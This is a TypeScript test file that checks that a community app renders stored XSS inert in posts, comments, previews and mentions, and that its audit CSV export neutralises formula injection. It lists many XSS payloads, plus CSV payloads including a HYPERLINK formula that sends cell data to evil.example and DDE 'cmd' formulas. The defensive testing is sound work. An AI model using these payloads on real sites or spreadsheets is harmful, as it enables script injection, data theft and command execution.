/**
 * S08 — stored XSS in every user-text sink, API side (SECURITY.md B): Markdown rendering of
 * posts, comments, replies and the reply preview leaves every payload inert; the audit CSV
 * export neutralises cells a spreadsheet would run; e-mail is plain text only. The browser
 * side (names, bios, titles, the moderation queue) is test/browser/security.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalUsername } from '../../src/accounts/username.js';
import { renderMarkdown } from '../../src/community/markdown.js';
import {
  addMember,
  addTenant,
  startTestGuild,
  TestClient,
  type HttpResult,
  type TestGuild,
} from '../support/harness.js';
import { anchorsWithForbiddenScheme, executableBits } from '../support/html-inspection.js';

const S08_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](\uff4aavascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x][evil]\n\n[evil]: javascript:alert(1)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '```html onclick=alert(1)\n<script>alert(1)</script>\n```',
  '[**x**](javascript:alert(1) "title")',
];

let guild: TestGuild;
let tenantId: string;
let author: TestClient;
let admin: TestClient;

beforeAll(async () => {
  guild = await startTestGuild({ GUILD_MAIL: 'log' });
  tenantId = await addTenant(guild, 'alpha');
  const manager = new TestClient(guild.url);
  await manager.signIn(await addMember(guild, tenantId, 'manager'));
  const space = await manager.post('/api/v1/spaces', {
    slug: 'xss',
    name: 'Payloads',
    visibility: 'public',
    kind: 'topic',
  });
  expect(space.status).toBe(201);
  author = new TestClient(guild.url);
  await author.signIn(await addMember(guild, tenantId));
  admin = new TestClient(guild.url);
  await admin.signIn(await addMember(guild, tenantId, 'admin'));
});
afterAll(() => guild.stop());

/** One RFC 4180 CSV document as rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

interface Post {
  id: string;
  bodyHtml: string;
}
interface Comment {
  id: string;
  bodyHtml: string;
}

const CSV_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

describe('S08 — Stored XSS in every user-text sink (API side)', () => {
  it.each(S08_PAYLOADS)('renders %j inert', (payload) => {
    const html = renderMarkdown(payload);

    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<(?:svg|iframe|object|embed)\b/i);
    expect(executableBits(html)).toEqual([]);
  });

  it('shows typed HTML as text', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n',
    );
  });

  it('the inspection helpers do catch a live payload', () => {
    const live = '<a href="java&#9;script:alert(1)" onclick="x()">x</a>';

    expect(anchorsWithForbiddenScheme(live)).toBe(1);
    expect(executableBits(live)).toEqual(['a[href=java\tscript:alert(1)]', 'a[onclick]']);
  });

  it('escapes a hostile stored username in a mention', () => {
    const stored = '"><script>alert(1)</script>';
    const mentions = new Map([[canonicalUsername('anna'), stored]]);

    const html = renderMarkdown('hi @anna', { mentions });

    expect(html).not.toMatch(/<script/i);
    expect(executableBits(html)).toEqual([]);
    expect(html).toContain('href="/u/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"');
  });

  it.each(S08_PAYLOADS)('a post with %j is stored and served inert', async (payload) => {
    if (payload.includes('\u0000')) {
      // PostgreSQL text cannot hold NUL: such a post is refused before anything is stored.
      const refused = await author.post<{ error: { code: string } }>('/api/v1/spaces/xss/posts', {
        title: 'NUL payload',
        body: payload,
      });
      expect(refused.status).toBe(400);
      expect(refused.body.error.code).toBe('validation_failed');
      return;
    }
    const created = await author.post<Post>('/api/v1/spaces/xss/posts', {
      title: `Payload number ${S08_PAYLOADS.indexOf(payload)}`,
      body: `Look here ${payload} and more`,
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(executableBits(created.body.bodyHtml)).toEqual([]);
    const read = await author.get<Post>(`/api/v1/posts/${created.body.id}`);
    expect(read.status).toBe(200);
    expect(read.headers.get('content-type')).toMatch(/^application\/json/);
    expect(executableBits(read.body.bodyHtml)).toEqual([]);
    expect(read.body.bodyHtml).not.toMatch(/<script/i);
  });

  it('comments and replies with every payload are served inert', async () => {
    const post = await author.post<Post>('/api/v1/spaces/xss/posts', {
      title: 'Comment payloads',
      body: 'Reply below',
    });
    let parentId: string | null = null;
    for (const payload of S08_PAYLOADS.filter((p) => !p.includes('\u0000'))) {
      const comment: HttpResult<Comment> = await author.post<Comment>(
        `/api/v1/posts/${post.body.id}/comments`,
        {
          body: payload,
          parentId,
        },
      );
      expect(comment.status, JSON.stringify(comment.body)).toBe(201);
      expect(executableBits(comment.body.bodyHtml)).toEqual([]);
      parentId ??= comment.body.id;
    }
    const listed = await author.get<{ items: Comment[] }>(`/api/v1/posts/${post.body.id}/comments`);
    expect(listed.body.items.length).toBeGreaterThan(0);
    for (const comment of listed.body.items) {
      expect(executableBits(comment.bodyHtml)).toEqual([]);
    }
  });

  it('the reply preview renders every payload inert', async () => {
    for (const payload of S08_PAYLOADS.filter((p) => !p.includes('\u0000'))) {
      const preview = await author.post<{ html: string }>('/api/v1/markdown/preview', {
        body: payload,
      });
      expect(preview.status).toBe(200);
      expect(executableBits(preview.body.html)).toEqual([]);
    }
  });

  it('the audit CSV export neutralises cells starting with = + - @', async () => {
    for (const payload of CSV_PAYLOADS) {
      // The User-Agent is attacker-chosen text that lands in the audit log's CSV.
      const reply = await author.request('DELETE', '/api/v1/auth/sessions', undefined, {
        'user-agent': payload,
      });
      expect(reply.status).toBe(204);
    }
    const exported = await fetch(`${guild.url}/api/v1/admin/audit/export?format=csv`, {
      headers: { cookie: admin.cookieHeader() },
    });
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(exported.headers.get('content-disposition')).toMatch(/^attachment;/);
    const rows = parseCsv(await exported.text());
    const header = rows[0]!;
    const uaColumn = header.indexOf('userAgent');
    expect(uaColumn).toBeGreaterThanOrEqual(0);
    const agents = rows.slice(1).map((row) => row[uaColumn] ?? '');
    for (const payload of CSV_PAYLOADS) {
      expect(agents).toContain(`'${payload}`);
    }
    for (const row of rows.slice(1)) {
      for (const cell of row) {
        expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+@\t\r]/);
        // A leading minus is kept only for a plain number (a spreadsheet cannot run that).
        if (cell.startsWith('-')) {
          expect(cell).toMatch(/^-\d+(\.\d+)?$/);
        }
      }
    }
  });

  it('e-mail is plain text only: no HTML body is stored or sent, so no markup can run in it', async () => {
    const columns = await guild.db.query<{ column_name: string }>(
      `SELECT column_name FROM information_schema.columns WHERE table_name = 'outbound_emails'`,
    );
    const names = columns.map((c) => c.column_name);
    expect(names).toContain('body_text');
    expect(names.filter((name) => /html/i.test(name))).toEqual([]);
  });
});
